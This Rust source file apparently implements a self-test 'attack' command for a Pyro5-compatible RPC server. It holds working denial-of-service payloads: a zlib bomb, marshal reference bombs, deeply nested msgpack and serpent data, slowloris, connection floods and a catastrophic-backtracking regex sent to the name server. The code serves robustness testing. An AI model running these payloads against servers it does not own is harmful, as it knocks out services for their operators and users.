//! The hostile traffic of `pyroxene attack`: raw TCP frames a broken or malicious client could
//! send, each attack bounded in connections, bytes and time. Only the traffic is here; the
//! measuring around it is in `attack_cmd.rs`.

use std::net::SocketAddr;
use std::time::{Duration, Instant};

use anyhow::Context;
use pyroxene::wire::dialect::ConnectRequest;
use pyroxene::wire::protocol::{Flags, Message, MessageType, ParseOptions, codec_for, compress};
use pyroxene::{ProtocolVersion, Serializer, Value, tuple};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

/// What the attacks need to know of the target.
#[derive(Debug, Clone, Copy)]
pub(crate) struct Scale {
    /// The target's MAX_MESSAGE_SIZE (the zlib bomb inflates past it).
    pub(crate) max_message_size: u64,
    /// The object the handshakes name.
    pub(crate) object: &'static str,
}

/// What an attack reports besides the measurements around it.
pub(crate) type Outcome = anyhow::Result<String>;

const V5: ProtocolVersion = ProtocolVersion::V5;
/// Longest an attack waits for one reply or close.
const REPLY_WAIT: Duration = Duration::from_secs(30);

fn marshal_id(version: ProtocolVersion) -> u16 {
    u16::from(Serializer::Marshal.id(version))
}

fn frame(version: ProtocolVersion, msg: &Message) -> anyhow::Result<Vec<u8>> {
    Ok(codec_for(version).encode(msg)?)
}

/// The header of a `msg_type` message announcing a `len`-byte payload, without the payload.
fn lying_header(
    version: ProtocolVersion,
    msg_type: MessageType,
    len: usize,
) -> anyhow::Result<Vec<u8>> {
    let whole = frame(
        version,
        &Message::new(msg_type, marshal_id(version), 0, vec![0u8; len]),
    )?;
    Ok(whole[..codec_for(version).header_size()].to_vec())
}

async fn connect(addr: SocketAddr) -> anyhow::Result<TcpStream> {
    let stream = tokio::time::timeout(Duration::from_secs(10), TcpStream::connect(addr))
        .await
        .context("connect: timeout")?
        .context("connect")?;
    stream.set_nodelay(true)?;
    Ok(stream)
}

/// The next message, or `None` when the server closed (or reset) the connection.
async fn recv(stream: &mut TcpStream, buf: &mut Vec<u8>) -> anyhow::Result<Option<Message>> {
    let opts = ParseOptions::default().decompress(false);
    let deadline = Instant::now() + REPLY_WAIT;
    loop {
        if let Some((msg, used)) = codec_for(V5).parse(buf, &opts)? {
            buf.drain(..used);
            return Ok(Some(msg));
        }
        let mut chunk = [0u8; 16 * 1024];
        let left = deadline.saturating_duration_since(Instant::now());
        match tokio::time::timeout(left, stream.read(&mut chunk)).await {
            Err(_) => anyhow::bail!("no reply and not closed within {REPLY_WAIT:?}"),
            Ok(Ok(0) | Err(_)) => return Ok(None),
            Ok(Ok(n)) => buf.extend_from_slice(&chunk[..n]),
        }
    }
}

/// Whether the server closes the connection (reading and dropping whatever it sends first).
async fn closes(stream: &mut TcpStream) -> bool {
    let mut chunk = [0u8; 16 * 1024];
    let deadline = Instant::now() + REPLY_WAIT;
    loop {
        let left = deadline.saturating_duration_since(Instant::now());
        match tokio::time::timeout(left, stream.read(&mut chunk)).await {
            Err(_) => return false,
            Ok(Ok(0) | Err(_)) => return true,
            Ok(Ok(_)) => {}
        }
    }
}

/// A connection past its Pyro5 handshake (marshal) with the scale's object.
async fn connected(addr: SocketAddr, scale: &Scale) -> anyhow::Result<TcpStream> {
    let mut stream = connect(addr).await?;
    let body = Serializer::Marshal.encode(&ConnectRequest::new(scale.object).to_value())?;
    let connect = Message::new(MessageType::Connect, marshal_id(V5), 0, body);
    stream.write_all(&frame(V5, &connect)?).await?;
    match recv(&mut stream, &mut Vec::new()).await? {
        Some(m) if m.msg_type == MessageType::ConnectOk => Ok(stream),
        other => anyhow::bail!("handshake refused: {:?}", other.map(|m| m.msg_type)),
    }
}

/// Opens `n` connections (64 at a time) and runs `each` on every one; how many failed.
async fn many<F, Fut>(addr: SocketAddr, n: usize, each: F) -> usize
where
    F: Fn(TcpStream, usize) -> Fut + Clone + Send + 'static,
    Fut: std::future::Future<Output = anyhow::Result<()>> + Send,
{
    let mut failed = 0;
    let mut tasks = tokio::task::JoinSet::new();
    for i in 0..n {
        if tasks.len() >= 64
            && let Some(done) = tasks.join_next().await
        {
            failed += usize::from(!matches!(done, Ok(Ok(()))));
        }
        let each = each.clone();
        tasks.spawn(async move {
            let stream = connect(addr).await?;
            each(stream, i).await
        });
    }
    while let Some(done) = tasks.join_next().await {
        failed += usize::from(!matches!(done, Ok(Ok(()))));
    }
    failed
}

/// `n` connections that each send one header announcing 8 MiB, then nothing, held `hold`.
pub(crate) async fn lying_headers(
    addr: SocketAddr,
    version: ProtocolVersion,
    n: usize,
    hold: Duration,
) -> Outcome {
    let header = lying_header(version, MessageType::Connect, 8 << 20)?;
    let mut open = Vec::with_capacity(n);
    for _ in 0..n {
        let Ok(mut s) = connect(addr).await else {
            break;
        };
        if s.write_all(&header).await.is_err() {
            break;
        }
        open.push(s);
    }
    tokio::time::sleep(hold).await;
    Ok(format!(
        "{} of {n} connections sent a header announcing 8 MiB",
        open.len()
    ))
}

/// A compressed INVOKE inflating just past MAX_MESSAGE_SIZE, from `n` connections at once.
pub(crate) async fn zlib_bomb(addr: SocketAddr, scale: &Scale, n: usize) -> Outcome {
    let inflated = usize::try_from(scale.max_message_size + (1 << 20)).unwrap_or(usize::MAX);
    let bomb =
        tokio::task::spawn_blocking(move || compress::compress(&vec![0u8; inflated], 6)).await??;
    let packed = bomb.len();
    let msg =
        Message::new(MessageType::Invoke, marshal_id(V5), 1, bomb).with_flags(Flags::COMPRESSED);
    let bytes = std::sync::Arc::new(frame(V5, &msg)?);
    let mut tasks = tokio::task::JoinSet::new();
    for _ in 0..n {
        let (bytes, scale) = (bytes.clone(), *scale);
        tasks.spawn(async move {
            let mut s = connected(addr, &scale).await?;
            let started = Instant::now();
            s.write_all(&bytes).await?;
            let refused = recv(&mut s, &mut Vec::new()).await?;
            anyhow::Ok((started.elapsed(), refused.map(|m| m.msg_type)))
        });
    }
    let mut worst = Duration::ZERO;
    let mut answers = Vec::new();
    while let Some(done) = tasks.join_next().await {
        let (took, answer) = done??;
        worst = worst.max(took);
        answers.push(answer.map_or("closed".to_owned(), |t| format!("{t:?}")));
    }
    Ok(format!(
        "{n} x {} KiB inflating to {} MiB: {} after {} ms",
        packed >> 10,
        inflated >> 20,
        answers.join("/"),
        worst.as_millis()
    ))
}

/// A marshal INVOKE `echo([s, s, ...])` naming one `size`-byte string `refs` more times, from
/// `n` connections at once.
pub(crate) async fn marshal_refs(
    addr: SocketAddr,
    scale: &Scale,
    size: usize,
    refs: u32,
    n: usize,
) -> Outcome {
    let mut call = marshal_call_head(scale)?;
    call.push(b'[');
    call.extend_from_slice(&(refs + 1).to_le_bytes());
    call.push(b'u' | 0x80); // the string takes reference slot 0
    call.extend_from_slice(&u32::try_from(size)?.to_le_bytes());
    call.resize(call.len() + size, b'x');
    for _ in 0..refs {
        call.extend_from_slice(b"r\x00\x00\x00\x00");
    }
    call.extend_from_slice(b"{0");
    let answers = invoke_everywhere(addr, scale, Serializer::Marshal, call, n).await?;
    Ok(format!(
        "{n} x {} MiB string named {refs} times: {}",
        size >> 20,
        answers.join("/")
    ))
}

/// The start of a marshal INVOKE `(object, "echo", (...), ...)` up to its vargs' one item.
fn marshal_call_head(scale: &Scale) -> anyhow::Result<Vec<u8>> {
    let mut call = b"(\x04\x00\x00\x00".to_vec();
    for text in [scale.object, "echo"] {
        call.push(b'z');
        call.push(u8::try_from(text.len())?);
        call.extend_from_slice(text.as_bytes());
    }
    call.extend_from_slice(b"(\x01\x00\x00\x00");
    Ok(call)
}

/// One INVOKE of `payload` in `ser` on each of `n` connections at once; how they were answered.
async fn invoke_everywhere(
    addr: SocketAddr,
    scale: &Scale,
    ser: Serializer,
    payload: Vec<u8>,
    n: usize,
) -> anyhow::Result<Vec<&'static str>> {
    let id = u16::from(ser.id(V5));
    let bytes = std::sync::Arc::new(frame(
        V5,
        &Message::new(MessageType::Invoke, id, 1, payload),
    )?);
    let mut tasks = tokio::task::JoinSet::new();
    for _ in 0..n {
        let (bytes, scale) = (bytes.clone(), *scale);
        tasks.spawn(async move {
            let mut s = connected(addr, &scale).await?;
            s.write_all(&bytes).await?;
            let reply = recv(&mut s, &mut Vec::new()).await?;
            anyhow::Ok(reply.map_or("closed", |m| match m.has(Flags::EXCEPTION) {
                true => "refused",
                false => "echoed",
            }))
        });
    }
    let mut answers = Vec::new();
    while let Some(done) = tasks.join_next().await {
        answers.push(done??);
    }
    if answers.len() > 2 {
        // "refused/refused/..." for 20 connections says less than a count.
        answers.sort_unstable();
        answers.dedup();
    }
    Ok(answers)
}

/// The start of a msgpack INVOKE `[object, "echo", [...], ...]` up to its vargs' items.
fn msgpack_call_head(scale: &Scale) -> anyhow::Result<Vec<u8>> {
    let mut call = vec![0x94];
    for text in [scale.object, "echo"] {
        call.push(
            0xa0 | u8::try_from(text.len())
                .ok()
                .filter(|&l| l < 32)
                .context("name")?,
        );
        call.extend_from_slice(text.as_bytes());
    }
    call.push(0x91);
    Ok(call)
}

/// A `size`-byte msgpack INVOKE whose argument is 500 nested arrays, each announcing as many
/// items as the message has bytes left, from `n` connections at once.
pub(crate) async fn nested_lengths(
    addr: SocketAddr,
    scale: &Scale,
    size: usize,
    n: usize,
) -> Outcome {
    let mut call = msgpack_call_head(scale)?;
    for _ in 0..500 {
        let left = u32::try_from(size.saturating_sub(call.len())).unwrap_or(u32::MAX);
        call.push(0xdd);
        call.extend_from_slice(&left.to_be_bytes());
    }
    call.resize(size, 0xc0);
    let answers = invoke_everywhere(addr, scale, Serializer::Msgpack, call, n).await?;
    Ok(format!(
        "{n} x {} KiB of nested array headers: {}",
        size >> 10,
        answers.join("/")
    ))
}

/// A marshal INVOKE of ~540 bytes whose argument doubles 40 times through references
/// (Python's `x = (x, x)` 40 times around a 100-byte str), from `n` connections at once.
pub(crate) async fn reference_bombs(addr: SocketAddr, scale: &Scale, n: usize) -> Outcome {
    fn level(out: &mut Vec<u8>, depth: u32, next: &mut u32) -> u32 {
        let slot = *next;
        *next += 1;
        if depth == 0 {
            out.push(b'u' | 0x80);
            out.extend_from_slice(&100u32.to_le_bytes());
            out.extend_from_slice(&[b'x'; 100]);
        } else {
            out.push(b'(' | 0x80);
            out.extend_from_slice(&2u32.to_le_bytes());
            let child = level(out, depth - 1, next);
            out.push(b'r');
            out.extend_from_slice(&child.to_le_bytes());
        }
        slot
    }
    let mut call = marshal_call_head(scale)?;
    level(&mut call, 40, &mut 0);
    call.extend_from_slice(b"{0");
    let len = call.len();
    let answers = invoke_everywhere(addr, scale, Serializer::Marshal, call, n).await?;
    Ok(format!(
        "{n} x {len} bytes doubling 40 times: {}",
        answers.join("/")
    ))
}

/// A msgpack INVOKE whose argument is a map keyed by a map keyed by ... 150 deep, around
/// 60,000 ints (60 KB: hashing the keys walks them 150 times), from `n` connections at once.
pub(crate) async fn nested_keys(addr: SocketAddr, scale: &Scale, n: usize) -> Outcome {
    let mut key = vec![0xdd];
    key.extend_from_slice(&60_000u32.to_be_bytes());
    key.resize(key.len() + 60_000, 0x01);
    for _ in 0..150 {
        let mut map = Vec::with_capacity(key.len() + 2);
        map.push(0x81);
        map.extend_from_slice(&key);
        map.push(0xc0);
        key = map;
    }
    let mut call = msgpack_call_head(scale)?;
    call.extend_from_slice(&key);
    call.push(0x80);
    let len = call.len();
    let answers = invoke_everywhere(addr, scale, Serializer::Msgpack, call, n).await?;
    Ok(format!(
        "{n} x {} KB of keys nested 150 deep: {}",
        len / 1000,
        answers.join("/")
    ))
}

/// INVOKEs with a serializer id no generation has, after the handshake: each must be
/// answered or closed.
pub(crate) async fn unknown_serializer(addr: SocketAddr, scale: &Scale, n: usize) -> Outcome {
    let bytes = frame(
        V5,
        &Message::new(MessageType::Invoke, 77, 1, b"??".to_vec()),
    )?;
    let mut closed = 0;
    for _ in 0..n {
        let mut s = connected(addr, scale).await?;
        s.write_all(&bytes).await?;
        closed += usize::from(closes(&mut s).await);
    }
    Ok(format!("{closed} of {n} closed by the server"))
}

/// Each connection sends `bytes(i)` and waits for the server to close it.
async fn send_and_wait_close(
    addr: SocketAddr,
    n: usize,
    bytes: impl Fn(usize) -> Vec<u8> + Clone + Send + Sync + 'static,
) -> Outcome {
    let closed = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
    let counted = closed.clone();
    let failed = many(addr, n, move |mut s, i| {
        let (bytes, closed) = (bytes.clone(), counted.clone());
        async move {
            // The server may close before everything is written: that is an answer too.
            let _ = s.write_all(&bytes(i)).await;
            if closes(&mut s).await {
                closed.fetch_add(1, std::sync::atomic::Ordering::Relaxed);
            }
            Ok(())
        }
    })
    .await;
    let closed = closed.load(std::sync::atomic::Ordering::Relaxed);
    Ok(format!(
        "{closed} of {n} closed by the server ({failed} failed to connect)"
    ))
}

/// Random bytes (a fixed xorshift sequence), 4 KiB per connection.
pub(crate) async fn garbage(addr: SocketAddr, n: usize) -> Outcome {
    send_and_wait_close(addr, n, |i| {
        let mut x = 0x9E37_79B9_7F4A_7C15u64 ^ i as u64;
        (0..4096)
            .map(|_| {
                x ^= x << 13;
                x ^= x >> 7;
                x ^= x << 17;
                x.to_le_bytes()[0]
            })
            .collect()
    })
    .await
}

/// A Pyro header of a protocol version nobody speaks.
pub(crate) async fn wrong_version(addr: SocketAddr, n: usize) -> Outcome {
    send_and_wait_close(addr, n, |_| {
        let mut bytes = b"PYRO\x01\xf5".to_vec();
        bytes.resize(40, 0);
        bytes
    })
    .await
}

/// A CONNECT whose serpent payload nests 100,000 lists deep.
pub(crate) async fn deep_nesting(addr: SocketAddr, n: usize) -> Outcome {
    let mut text = b"# serpent utf-8 python3.2\n".to_vec();
    text.extend(std::iter::repeat_n(b'[', 100_000));
    text.extend(std::iter::repeat_n(b']', 100_000));
    let id = u16::from(Serializer::Serpent.id(V5));
    let bytes = frame(V5, &Message::new(MessageType::Connect, id, 0, text))?;
    send_and_wait_close(addr, n, move |_| bytes.clone()).await
}

/// A marshal CONNECT whose str is not UTF-8.
pub(crate) async fn bad_utf8(addr: SocketAddr, n: usize) -> Outcome {
    let bytes = frame(
        V5,
        &Message::new(
            MessageType::Connect,
            marshal_id(V5),
            0,
            b"u\x04\x00\x00\x00\xff\xfe\xc3\x28".to_vec(),
        ),
    )?;
    send_and_wait_close(addr, n, move |_| bytes.clone()).await
}

/// Headers that announce 1 MiB after the handshake, followed by 1 KiB, then the peer leaves.
pub(crate) async fn lying_sizes(addr: SocketAddr, scale: &Scale, n: usize) -> Outcome {
    let mut bytes = lying_header(V5, MessageType::Invoke, 1 << 20)?;
    bytes.resize(bytes.len() + 1024, 0);
    let mut done = 0;
    for _ in 0..n {
        let mut s = connected(addr, scale).await?;
        s.write_all(&bytes).await?;
        done += 1;
    }
    Ok(format!("{done} connections left mid-message"))
}

/// `n` connections sending their CONNECT one byte every 200 ms for `hold`.
pub(crate) async fn slowloris(
    addr: SocketAddr,
    scale: &Scale,
    n: usize,
    hold: Duration,
) -> Outcome {
    let body = Serializer::Marshal.encode(&ConnectRequest::new(scale.object).to_value())?;
    let bytes = frame(
        V5,
        &Message::new(MessageType::Connect, marshal_id(V5), 0, body),
    )?;
    let mut open = Vec::with_capacity(n);
    for _ in 0..n {
        match connect(addr).await {
            Ok(s) => open.push(s),
            Err(_) => break,
        }
    }
    let started = Instant::now();
    let (mut sent, mut closed) = (0, 0);
    while started.elapsed() < hold && sent < bytes.len() {
        for s in &mut open {
            if s.write_all(&bytes[sent..=sent]).await.is_err() {
                closed += 1;
            }
        }
        sent += 1;
        tokio::time::sleep(Duration::from_millis(200)).await;
    }
    Ok(format!(
        "{} connections, {sent} bytes each over {:?}; {closed} writes refused",
        open.len(),
        started.elapsed()
    ))
}

/// `n` connections that send nothing, held `hold`.
pub(crate) async fn idle(addr: SocketAddr, n: usize, hold: Duration) -> Outcome {
    let mut open = Vec::with_capacity(n);
    let mut refused = 0;
    for _ in 0..n {
        match connect(addr).await {
            Ok(s) => open.push(s),
            Err(_) => refused += 1,
        }
    }
    tokio::time::sleep(hold).await;
    Ok(format!(
        "{} idle connections held {hold:?} ({refused} not made)",
        open.len()
    ))
}

/// Connections that write `count` PINGs without reading a reply, for at most `hold`.
pub(crate) async fn pipelining(
    addr: SocketAddr,
    scale: &Scale,
    conns: usize,
    count: usize,
    hold: Duration,
) -> Outcome {
    let ping = frame(
        V5,
        &Message::new(MessageType::Ping, marshal_id(V5), 0, b"ping".to_vec()),
    )?;
    let batch: std::sync::Arc<Vec<u8>> = std::sync::Arc::new(ping.repeat(100));
    let mut tasks = tokio::task::JoinSet::new();
    for _ in 0..conns {
        let (batch, scale) = (batch.clone(), *scale);
        tasks.spawn(async move {
            let mut s = connected(addr, &scale).await?;
            let mut sent = 0;
            let _ = tokio::time::timeout(hold, async {
                while sent < count {
                    if s.write_all(&batch).await.is_err() {
                        break;
                    }
                    sent += 100;
                }
            })
            .await;
            anyhow::Ok(sent)
        });
    }
    let mut total = 0;
    while let Some(done) = tasks.join_next().await {
        total += done??;
    }
    Ok(format!(
        "{total} pings written unread over {conns} connections"
    ))
}

/// `n` connections opened and closed at once, 64 at a time.
pub(crate) async fn connect_churn(addr: SocketAddr, n: usize) -> Outcome {
    let failed = many(addr, n, |s, _| async move {
        drop(s);
        Ok(())
    })
    .await;
    Ok(format!("{n} connects and closes ({failed} failed)"))
}

/// The proxy of the name server at `addr`, with a call timeout.
fn ns_proxy(addr: SocketAddr, timeout: Duration) -> anyhow::Result<pyroxene::Proxy> {
    Ok(pyroxene::Proxy::new(format!("PYRO:Pyro.NameServer@{addr}"))?.with_timeout(Some(timeout)))
}

/// 20 names of 8 KiB, then two `list(regex='(?:.{0,20}){0,400}!')` calls at once.
pub(crate) async fn ns_regex(addr: SocketAddr) -> Outcome {
    let ns = ns_proxy(addr, Duration::from_secs(60))?;
    for i in 0..20 {
        let name = format!("attack.{i:02}{}", "a".repeat(8180));
        ns.call("register", tuple![name, "PYRO:x@127.0.0.1:1"], None)
            .await?;
    }
    let started = Instant::now();
    let list = || {
        let ns = ns.clone();
        tokio::spawn(async move {
            let regex = Value::from("(?:.{0,20}){0,400}!");
            let kwargs: pyroxene::Dict = [(Value::from("regex"), regex)].into_iter().collect();
            match ns.call("list", tuple![], Some(kwargs)).await {
                Ok(_) => "listed".to_owned(),
                Err(e) => e.to_string(),
            }
        })
    };
    let (a, b) = (list(), list());
    let answers = [a.await?, b.await?];
    ns.call("remove", tuple![Value::None, "attack."], None)
        .await?;
    Ok(format!(
        "2 x list(regex) over 20 names of 8 KiB: {} ms, {}",
        started.elapsed().as_millis(),
        answers[0]
    ))
}

/// 4 clients registering names as fast as they can for `hold`; all removed afterwards.
pub(crate) async fn ns_flood(addr: SocketAddr, hold: Duration) -> Outcome {
    let mut tasks = tokio::task::JoinSet::new();
    for c in 0..4 {
        let ns = ns_proxy(addr, Duration::from_secs(10))?;
        tasks.spawn(async move {
            let started = Instant::now();
            let mut n = 0u64;
            while started.elapsed() < hold {
                ns.call(
                    "register",
                    tuple![format!("flood.{c}.{n}"), "PYRO:x@127.0.0.1:1"],
                    None,
                )
                .await?;
                n += 1;
            }
            anyhow::Ok(n)
        });
    }
    let mut total = 0;
    while let Some(done) = tasks.join_next().await {
        total += done??;
    }
    ns_proxy(addr, Duration::from_secs(60))?
        .call("remove", tuple![Value::None, "flood."], None)
        .await?;
    Ok(format!("{total} registrations by 4 clients in {hold:?}"))
}
